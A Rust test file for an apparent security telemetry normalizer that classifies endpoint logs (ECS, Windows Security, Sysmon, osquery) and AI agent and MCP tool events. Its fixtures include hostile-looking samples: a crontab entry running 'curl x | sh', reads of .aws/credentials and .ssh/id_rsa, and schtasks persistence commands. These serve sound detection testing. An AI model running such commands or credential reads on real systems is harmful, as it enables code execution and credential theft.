        json!({"service.name": "edr-forwarder", "host.name": "ws-dax"}),
        json!({"event": {"category": "file", "action": "open"}, "file": {"path": "/home/dax/.aws/credentials"},
               "process": {"command_line": "python3 sync.py"}, "user": {"name": "CORP\\dax"}}),
        json!({}),
    );
    assert_eq!(read.kind, EventKind::FileRead);
    assert_eq!(read.path.as_deref(), Some("/home/dax/.aws/credentials"));
    assert_eq!(read.user.as_deref(), Some("dax"));
    assert_eq!(read.host.as_deref(), Some("ws-dax"));
    let task = log(
        json!({"service.name": "edr-forwarder"}),
        json!({"event": {"category": "configuration", "action": "scheduled-task-created"},
               "process": {"command_line": "schtasks /create /tn Sync /tr C:\\t\\s.cmd /sc hourly"}, "user": {"name": "eva"}}),
        json!({}),
    );
    assert_eq!(task.kind, EventKind::ScheduledTaskCreate);
    assert_eq!(task.user.as_deref(), Some("eva"));
}

#[test]
fn endpoint_ecs_arrays_and_semantic_convention_only_records() {
    // Elastic exports event.category and event.type as arrays.
    let exec = log(
        json!({"service.name": "elastic-agent"}),
        json!(""),
        json!({"event.category": ["process"], "event.type": ["start"], "event.action": "exec",
               "process.command_line": "crontab /tmp/x", "user.name": "ann"}),
    );
    assert_eq!(exec.kind, EventKind::ProcessStart);
    assert_eq!(exec.command.as_deref(), Some("crontab /tmp/x"));
    let created = log(
        json!({}),
        json!(""),
        json!({"event.category": ["file", "configuration"], "event.type": ["creation"], "event.action": "creation",
               "file.path": "/etc/cron.d/evil", "user.name": "root"}),
    );
    assert_eq!(created.kind, EventKind::FileWrite);
    assert_eq!(created.action.as_deref(), Some("creation"));
    // A deletion keeps its verb: scheduled-task-created must tell it from a new file.
    let deleted = log(
        json!({}),
        json!(""),
        json!({"event.category": ["file"], "event.action": "deletion", "file.path": "/Users/ann/Library/LaunchAgents/old.plist", "user.name": "ann"}),
    );
    assert_eq!(
        (deleted.kind, deleted.action.as_deref()),
        (EventKind::FileWrite, Some("deletion"))
    );
    let opened = log(
        json!({}),
        json!(""),
        json!({"file.path": "/home/ann/.ssh/id_rsa", "event.type": ["access"], "user.name": "ann"}),
    );
    assert_eq!(opened.kind, EventKind::FileRead);
    let open_action = log(
        json!({}),
        json!(""),
        json!({"file.path": "C:\\Users\\ann\\.aws\\credentials", "event.action": "file_open", "user.name": "ann"}),
    );
    assert_eq!(open_action.kind, EventKind::FileRead);
    // Only OTel semantic-convention names: a command line is a process start.
    let semconv = log(
        json!({"host.name": "WS-9"}),
        json!(""),
        json!({"process.owner": "ann", "process.command_line": "schtasks /create /tn u /tr c:\\u.exe", "process.pid": 4242}),
    );
    assert_eq!(semconv.kind, EventKind::ProcessStart);
    // The process owner under its ECS / current semantic-convention name.
    let owner = log(
        json!({"host.name": "ws-10"}),
        json!(""),
        json!({"process.user.name": "CORP\\kim", "process.command_line": "crontab -l", "process.pid": 77}),
    );
    assert_eq!(owner.user.as_deref(), Some("kim"));
    // Only an argument vector: the command line it was.
    let args = log(
        json!({}),
        json!(""),
        json!({"event.category": ["process"], "event.action": "exec", "process.args": ["crontab", "/tmp/jobs"], "user.name": "ann"}),
    );
    assert_eq!(args.command.as_deref(), Some("crontab /tmp/jobs"));
    let btm = log(
        json!({}),
        json!(""),
        json!({"event.category": ["configuration"], "event.action": "btm_launch_item_add", "user.name": "ann",
               "file.path": "/Users/ann/Library/LaunchAgents/com.x.plist"}),
    );
    assert_eq!(btm.kind, EventKind::ScheduledTaskCreate);
    // An array that does not hold the value does not match it.
    let other = log(
        json!({}),
        json!(""),
        json!({"event.category": ["network"], "event.action": "exec", "destination.address": "203.0.113.5"}),
    );
    assert_ne!(other.kind, EventKind::ProcessStart);
}

#[test]
fn windows_event_log_receiver_bodies_and_osquery_rows() {
    let body = json!({"channel": "Security", "computer": "WS-7", "event_id": {"id": 4698, "qualifiers": 0},
        "provider": {"name": "Microsoft-Windows-Security-Auditing"}, "system_time": "2026-03-10T15:00:00Z",
        "event_data": [{"name": "TaskName", "value": "\\Updater"}, {"name": "SubjectUserName", "value": "bob"}]});
    let e = log(json!({"service.name": "otelcol"}), body, json!({}));
    assert_eq!(
        (e.kind, e.user.as_deref(), e.host.as_deref()),
        (EventKind::ScheduledTaskCreate, Some("bob"), Some("WS-7"))
    );
    let sysmon = json!({"channel": "Microsoft-Windows-Sysmon/Operational", "computer": "WS-7", "event_id": {"id": 1},
        "event_data": {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c crontab", "User": "CORP\\bob"}});
    let p = log(json!({}), sysmon, json!({}));
    assert_eq!(
        (p.kind, p.command.as_deref(), p.user.as_deref()),
        (EventKind::ProcessStart, Some("cmd /c crontab"), Some("bob"))
    );
    // Security 4688, process creation, in the receiver's array format.
    let created = json!({"channel": "Security", "computer": "WS-8", "event_id": {"id": 4688},
        "event_data": {"data": [{"SubjectUserName": "dave"}, {"NewProcessName": "C:\\Windows\\System32\\schtasks.exe"},
                                {"CommandLine": "schtasks /create /tn Sync /tr C:\\t\\s.exe /sc hourly"}]}});
    let c = log(json!({}), created, json!({}));
    assert_eq!(
        (c.kind, c.user.as_deref(), c.command.as_deref()),
        (
            EventKind::ProcessStart,
            Some("dave"),
            Some("schtasks /create /tn Sync /tr C:\\t\\s.exe /sc hourly")
        )
    );
    // Without command-line auditing, the image names the process.
    let bare = json!({"channel": "Security", "computer": "WS-8", "event_id": {"id": 4688},
        "event_data": {"SubjectUserName": "dave", "NewProcessName": "C:\\Windows\\System32\\whoami.exe"}});
    assert_eq!(
        log(json!({}), bare, json!({})).command.as_deref(),
        Some("C:\\Windows\\System32\\whoami.exe")
    );
    // Security 4663, a read of a file under a SACL; a write is a write.
    let access = |accesses: &str| {
        json!({"channel": "Security", "computer": "WS-8", "event_id": {"id": 4663},
            "event_data": [{"name": "SubjectUserName", "value": "erin"}, {"name": "ObjectType", "value": "File"},
                           {"name": "ObjectName", "value": "C:\\Users\\erin\\.aws\\credentials"},
                           {"name": "Accesses", "value": accesses}]})
    };
    let r = log(json!({}), access("ReadData (or ListDirectory)"), json!({}));
    assert_eq!(
        (r.kind, r.user.as_deref(), r.path.as_deref()),
        (
            EventKind::FileRead,
            Some("erin"),
            Some("C:\\Users\\erin\\.aws\\credentials")
        )
    );
    assert_eq!(
        log(json!({}), access("WriteData (or AddFile)"), json!({})).kind,
        EventKind::FileWrite
    );
    let osq = log(
        json!({}),
        json!(""),
        json!({"name": "crontab", "action": "added", "hostIdentifier": "mac-1", "columns": {"command": "curl x | sh", "path": "/etc/crontab"}}),
    );
    assert_eq!(
        (osq.kind, osq.host.as_deref(), osq.command.as_deref()),
        (
            EventKind::ScheduledTaskCreate,
            Some("mac-1"),
            Some("curl x | sh")
        )
    );
    // The same rows as a log body map (osqueryd's results log through a forwarder).
    let read = log(
        json!({}),
        json!({"name": "pack_fim_file_events", "hostIdentifier": "mac-2", "action": "added",
               "columns": {"target_path": "/Users/ann/.ssh/id_rsa", "action": "ACCESSED", "username": "ann"}}),
        json!({}),
    );
    assert_eq!(
        (
            read.source,
            read.kind,
            read.path.as_deref(),
            read.user.as_deref(),
            read.host.as_deref()
        ),
        (
            Source::Endpoint,
            EventKind::FileRead,
            Some("/Users/ann/.ssh/id_rsa"),
            Some("ann"),
            Some("mac-2")
        )
    );
    let task = log(
        json!({}),
        json!({"name": "scheduled_tasks", "hostIdentifier": "WIN-3", "action": "added",
               "columns": {"name": "Updater", "path": "\\Updater", "action": "C:\\u.exe"}}),
        json!({}),
    );
    assert_eq!(task.kind, EventKind::ScheduledTaskCreate);
}

#[test]
fn unknown_senders_keep_everything_as_other() {
    let e = log(
        json!({"service.name": "something"}),
        json!({"msg": "hi", "n": 3}),
        json!({"user.name": "zoe", "weird": [1, 2]}),
    );
    assert_eq!((e.source, e.kind), (Source::Unknown, EventKind::Other));
    assert_eq!(e.user.as_deref(), Some("zoe"));
    assert_eq!(e.attrs.get("body.msg"), Some("hi"));
    assert_eq!(e.attrs.get("weird"), Some("[1,2]"));
}

#[test]
fn metric_points_become_metric_events_and_far_future_times_are_rejected() {
    let req = ExportMetricsServiceRequest {
        resource_metrics: vec![ResourceMetrics {
            resource: Some(Resource {
                attributes: kvs(&json!({"service.name": "claude-code"})),
                ..Default::default()
            }),
            scope_metrics: vec![ScopeMetrics {
                metrics: vec![Metric {
                    name: "claude_code.token.usage".into(),
                    unit: "tokens".into(),
                    data: Some(metric::Data::Sum(Sum {
                        data_points: vec![
                            NumberDataPoint {
                                time_unix_nano: T0,
                                value: Some(number_data_point::Value::AsInt(1500)),
                                attributes: kvs(
                                    &json!({"type": "input", "user.email": "a@example.com"}),
                                ),
                                ..Default::default()
                            },
                            NumberDataPoint {
                                time_unix_nano: u64::MAX,
                                value: Some(number_data_point::Value::AsDouble(1.0)),
                                ..Default::default()
                            },
                        ],
                        ..Default::default()
                    })),
                    ..Default::default()
                }],
                ..Default::default()
            }],
            ..Default::default()
        }],
    };
    let out = normalizer().metrics(&req, "default", T0 as i64);
    assert_eq!(out.rejected, 1);
    assert!(out.error.as_deref().unwrap_or("").contains("2262"));
    assert_eq!(out.events.len(), 1);
    let m = &out.events[0];
    assert_eq!(m.kind, EventKind::Metric);
    assert_eq!(m.attrs.get("metric.name"), Some("claude_code.token.usage"));
    assert_eq!(m.attrs.get("metric.value"), Some("1500"));
}

#[test]
fn user_mappings_override_defaults_by_name() {
    let dir = std::env::temp_dir().join(format!("vigil-map-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("acme.yaml"),
        "mappings:\n  - name: acme-agent\n    source: agent\n    signals: [log]\n    priority: 200\n    when: {field: resource.service.name, eq: acme-agent}\n    columns:\n      user: [actor]\n    kinds:\n      - {when: {field: op, eq: read}, kind: file_read}\n",
    )
    .unwrap();
    let set = MappingSet::load(std::slice::from_ref(&dir)).expect("loads");
    let req = ExportLogsServiceRequest {
        resource_logs: vec![ResourceLogs {
            resource: Some(Resource {
                attributes: kvs(&json!({"service.name": "acme-agent"})),
                ..Default::default()
            }),
            scope_logs: vec![ScopeLogs {
                log_records: vec![LogRecord {
                    time_unix_nano: T0,
                    attributes: kvs(&json!({"actor": "q@example.com", "op": "read"})),
                    ..Default::default()
                }],
                ..Default::default()
            }],
            ..Default::default()
        }],
    };
    let out = Normalizer::new(Arc::new(set)).logs(&req, "default", T0 as i64);
    assert_eq!(
        (out.events[0].kind, out.events[0].user.as_deref()),
        (EventKind::FileRead, Some("q@example.com"))
    );
    std::fs::write(
        dir.join("broken.yaml"),
        "mappings:\n  - name: x\n    source: robot\n",
    )
    .unwrap();
    let err = MappingSet::load(std::slice::from_ref(&dir))
        .unwrap_err()
        .to_string();
    assert!(err.contains("broken.yaml:3"), "{err}");
    std::fs::remove_dir_all(dir).ok();
}

/// Records of several shapes in one request (other keys, the same keys
/// sent in another order, a column's leftover colliding with an attribute)
/// get the attributes each gets alone, on a fresh receiver thread: the
/// orders the receivers remember from record to record change nothing.
#[test]
fn attributes_of_mixed_records_match_each_record_normalized_alone() {
    let shapes = [
        json!({"event.name": "tool_result", "tool_name": "Read", "b": "1", "a": "2"}),
        json!({"event.name": "tool_result", "a": "2", "tool_name": "Read", "b": "1"}),
        json!({"event.name": "api_request", "model": "m", "input_tokens": "lots", "tokens_in": "sent", "z": 1.5}),
        json!({"event.name": "user_prompt", "prompt_length": 12, "zz": true, "aa": "x"}),
    ];
    let record = |i: usize| LogRecord {
        time_unix_nano: T0 + i as u64,
        body: Some(any(&json!("claude_code.event"))),
        attributes: kvs(&shapes[i % shapes.len()]),
        ..Default::default()
    };
    let request = |records: Vec<LogRecord>| ExportLogsServiceRequest {
        resource_logs: vec![ResourceLogs {
            resource: Some(Resource {
                attributes: kvs(&json!({"service.name": "claude-code", "os.type": "linux"})),
                ..Default::default()
            }),
            scope_logs: vec![ScopeLogs {
                log_records: records,
                ..Default::default()
            }],
            ..Default::default()
        }],
    };
    let n = normalizer();
    let mixed = n.logs(
        &request((0..40).map(record).collect()),
        "default",
        T0 as i64,
    );
    assert_eq!(mixed.events.len(), 40);
    for (i, ev) in mixed.events.iter().enumerate() {
        let keys: Vec<&str> = ev.attrs.keys().collect();
        assert!(keys.windows(2).all(|w| w[0] < w[1]), "{keys:?}");
        let alone = std::thread::scope(|s| {
            s.spawn(|| n.logs(&request(vec![record(i)]), "default", T0 as i64))
                .join()
                .unwrap()
        });
        assert_eq!(ev.attrs, alone.events[0].attrs, "record {i}");
    }
    let collided = &mixed.events[2];
    assert_eq!(collided.tokens_in, None);
    assert_eq!(collided.attrs.get("tokens_in"), Some("sent"));
    assert_eq!(collided.attrs.get("z"), Some("1.5"));
    assert_eq!(mixed.events[3].attrs.get("zz"), Some("true"));
}

#[test]
fn generic_api_tools_write_by_their_arguments() {
    let mail = span(
        json!({"service.name": "mcp-gateway"}),
        "tools/call Lokka-Microsoft",
        json!({"mcp.method.name": "tools/call", "gen_ai.tool.name": "Lokka-Microsoft", "server.address": "lokka.mcp.example.org",
               "user.email": "ivy@example.com",
               "gen_ai.tool.call.arguments": "{\"apiType\": \"graph\", \"method\": \"POST\", \"path\": \"/me/sendMail\"}"}),
        false,
    );
    assert_eq!(mail.kind, EventKind::ConnectorAction);
    assert_eq!(mail.action.as_deref(), Some("post"));
    let dml = span(
        json!({"service.name": "mcp-gateway"}),
        "tools/call salesforce_dml_records",
        json!({"mcp.method.name": "tools/call", "gen_ai.tool.name": "salesforce_dml_records", "server.address": "sf.mcp.example.org",
               "user.email": "ivy@example.com",
               "gen_ai.tool.call.arguments": "{\"operation\": \"delete\", \"objectName\": \"Account\"}"}),
        false,
    );
    assert_eq!(dml.kind, EventKind::ConnectorAction);
    assert_eq!(dml.action.as_deref(), Some("delete"));
    // A POST to a search or query endpoint reads.
    let search = span(
        json!({"service.name": "mcp-gateway"}),
        "tools/call es_request",
        json!({"mcp.method.name": "tools/call", "gen_ai.tool.name": "es_request", "server.address": "es.mcp.example.org",
               "user.email": "ivy@example.com",
               "gen_ai.tool.call.arguments": "{\"method\": \"POST\", \"path\": \"/logs-*/_search\"}"}),
        false,
    );
    assert_eq!(search.kind, EventKind::ToolCall);
    // An LLM completion tool generates text; completing a task writes.
    let complete = span(
        json!({"service.name": "mcp-gateway"}),
        "tools/call complete",
        json!({"mcp.method.name": "tools/call", "gen_ai.tool.name": "complete", "server.address": "llm.mcp.example.org",
               "user.email": "ivy@example.com"}),
        false,
    );
    assert_eq!(complete.kind, EventKind::ToolCall);
    assert_eq!(complete.action.as_deref(), Some("generate"));
    // The agent calling the generic tool itself: its tool_input carries the method.
    let agent = claude(
        json!({"event.name": "tool_result", "tool_name": "mcp__lokka__Lokka-Microsoft", "success": "true",
                              "tool_input": "{\"method\": \"delete\", \"path\": \"/users/x\"}"}),
    );
    assert_eq!(agent.kind, EventKind::ConnectorAction);
    assert_eq!(agent.action.as_deref(), Some("delete"));
    // A read through the same generic tool stays a read.
    let get = span(
        json!({"service.name": "mcp-gateway"}),
        "tools/call Lokka-Microsoft",
        json!({"mcp.method.name": "tools/call", "gen_ai.tool.name": "Lokka-Microsoft", "server.address": "lokka.mcp.example.org",
               "user.email": "ivy@example.com",
               "gen_ai.tool.call.arguments": "{\"method\": \"get\", \"path\": \"/me/messages\"}"}),
        false,
    );
    assert_eq!(get.kind, EventKind::ToolCall);
    // Cancelling, submitting and completing change the connector's data.
    for (tool, action) in [
        ("cancel_subscription", "cancel"),
        ("submit_pending_pull_request_review", "submit"),
        ("complete-tasks", "submit"),
    ] {
        let e = span(
            json!({"service.name": "mcp-gateway"}),
            &format!("tools/call {tool}"),
            json!({"mcp.method.name": "tools/call", "gen_ai.tool.name": tool, "server.address": "api.example-saas.com",
                   "user.email": "ivy@example.com"}),
            false,
        );
        assert_eq!(e.kind, EventKind::ConnectorAction, "{tool}");
        assert_eq!(e.action.as_deref(), Some(action), "{tool}");
    }
}

#[test]
fn claude_code_mode_changes_by_keypress_are_the_person_at_the_terminal() {
    let key = claude(
        json!({"event.name": "permission_mode_changed", "from_mode": "default", "to_mode": "plan", "trigger": "shift_tab"}),
    );
    assert_eq!(key.kind, EventKind::PermissionModeChange);
    assert!(key.interactive);
    // Leaving plan mode is approved by a callback in SDK runs: not surely a person.
    let plan = claude(
        json!({"event.name": "permission_mode_changed", "from_mode": "plan", "to_mode": "default", "trigger": "exit_plan_mode"}),
    );
    assert!(!plan.interactive);
    let auto = claude(
        json!({"event.name": "permission_mode_changed", "from_mode": "default", "to_mode": "auto", "trigger": "auto_opt_in"}),
    );
    assert_eq!(auto.kind, EventKind::PermissionModeChange);
    assert!(!auto.interactive);
}

#[test]
fn a_sender_whose_clock_runs_ahead_is_moved_back_as_a_whole() {
    const DAY: u64 = 86_400_000_000_000;
    let resource = |name: &str, times: &[u64]| ResourceLogs {
        resource: Some(Resource {
            attributes: kvs(&json!({"service.name": name})),
            ..Default::default()
        }),
        scope_logs: vec![ScopeLogs {
            log_records: times
                .iter()
                .map(|t| LogRecord {
                    time_unix_nano: *t,
                    body: Some(any(&json!("x"))),
                    ..Default::default()
                })
                .collect(),
            ..Default::default()
        }],
        ..Default::default()
    };
    let req = ExportLogsServiceRequest {
        resource_logs: vec![
            resource("ahead", &[T0 + DAY, T0 + DAY + 30_000_000_000]),
            resource("honest", &[T0 - 5_000_000_000]),
            resource("slightly-ahead", &[T0 + 50_000_000_000]),
        ],
    };
    let norm = normalizer();
    // Alone, the stream is ahead as a whole (a test or a replay dated ahead):
    // taken as sent.
    let alone = ExportLogsServiceRequest {
        resource_logs: vec![resource("ahead", &[T0 + DAY])],
    };
    let out = norm.logs(&alone, "default", T0 as i64 - 60_000_000_000);
    assert_eq!((out.clock_ahead, out.ahead_taken), (0, 1));
    assert_eq!(out.events[0].time, (T0 + DAY) as i64);
    // Once a sender whose clock agrees with vigil's has been heard, the one
    // ahead is moved.
    let honest = ExportLogsServiceRequest {
        resource_logs: vec![resource("honest", &[T0 - 20_000_000_000])],
    };
    assert_eq!(
        norm.logs(&honest, "default", T0 as i64 - 10_000_000_000)
            .clock_ahead,
        0
    );
    let out = norm.logs(&req, "default", T0 as i64);
    assert_eq!(out.clock_ahead, 2);
    assert_eq!(out.ahead_taken, 0);
    assert_eq!(out.clock_ahead_max_ns, (DAY + 30_000_000_000) as i64);
    let t: Vec<i64> = out.events.iter().map(|e| e.time).collect();
    // The day-ahead sender's newest lands at the receipt, 30 s after its first.
    assert_eq!(t[..2], [T0 as i64 - 30_000_000_000, T0 as i64]);
    assert_eq!(
        out.events[0].attrs.get("vigil.sender_time"),
        Some("2026-03-11T15:00:00Z")
    );
    // The others keep their own times: within the minute allowed, or behind.
    assert_eq!(
        t[2..],
        [T0 as i64 - 5_000_000_000, T0 as i64 + 50_000_000_000]
    );
    assert!(out.events[2..]
        .iter()
        .all(|e| e.attrs.get("vigil.sender_time").is_none()));
    // The honest sender vouches for ten minutes; after that, with none
    // heard since, records ahead are taken as sent again.
    let later = T0 as i64 + LIVE_FOR.as_nanos() as i64;
    let out = norm.logs(&alone, "default", later - 1_000_000_000);
    assert_eq!((out.clock_ahead, out.ahead_taken), (1, 0));
    let out = norm.logs(&alone, "default", later + 1_000_000_000);
    assert_eq!((out.clock_ahead, out.ahead_taken), (0, 1));
    // A live sender vouches within its own request too, wherever it stands
    // among the resources: a collector forwarding both at a fresh start.
    let fresh = normalizer();
    let out = fresh.logs(&req, "default", T0 as i64);
    assert_eq!((out.clock_ahead, out.ahead_taken), (2, 0));
    // After a restart, state restored with an event from just before vouches
    // too; one from an hour before (vigil was down) or ahead does not.
    let restarted = normalizer();
    assert!(!restarted.heard_before_start(T0 as i64 - 3_600_000_000_000, T0 as i64));
    assert!(!restarted.heard_before_start((T0 + DAY) as i64, T0 as i64));
    assert_eq!(restarted.logs(&alone, "default", T0 as i64).ahead_taken, 1);
    assert!(restarted.heard_before_start(T0 as i64 - 5_000_000_000, T0 as i64));
    let out = restarted.logs(&alone, "default", T0 as i64);
    assert_eq!((out.clock_ahead, out.ahead_taken), (1, 0));
}
